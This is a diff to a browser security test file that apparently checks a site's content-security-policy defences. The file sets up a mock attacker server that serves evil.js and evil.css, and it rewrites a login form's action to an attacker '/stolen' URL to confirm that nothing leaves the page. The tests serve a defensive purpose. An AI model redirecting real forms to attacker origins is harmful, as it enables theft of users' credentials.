@@ -69,10 +69,6 @@ const injections: readonly [name: string, markup: string, directive: string, ran
   ],
 ];
 
-function STYLED: string {
-  return `getComputedStyle(document.querySelector("h1")).color === "rgb(1, 2, 3)"`;
-}
-
 attacker.page("/evil.js", "window.pwned = 1", { "content-type": "text/javascript" });
 attacker.page("/evil.css", "h1 { color: rgb(1, 2, 3) }", { "content-type": "text/css" });
 
@@ -103,15 +99,12 @@ async function servePoisoned(page: Page, markup: string): Promise<void> {
 
 test("sends no form of the page to another origin", async () => {
   const page = await newVisitor(browser);
+  await servePoisoned(page, "");
   await page.goto(`${origin}/login`);
-  await page
-    .locator("main form")
-    .evaluate((form, url) => form.setAttribute("action", url), attacker.url("/stolen"));
-  await page.getByLabel("E-mail").fill("ada@example.com");
-  await page.getByLabel("Password").fill("correct horse battery");
-  await page.getByRole("button", { name: "Log in", exact: true }).click();
-  await page.waitForTimeout(300);
-  assert.equal(page.url(), `${origin}/login`);
+  const form = page.locator("main form");
+  await form.evaluate((element, url) => element.setAttribute("action", url), attacker.url("/stolen"));
+  await form.getByRole("button").dispatchEvent("click");
+  await page.waitForFunction(`window.violations?.includes("form-action")`);
   assert.deepEqual(attacker.seen, []);
   await page.context().close();
 });
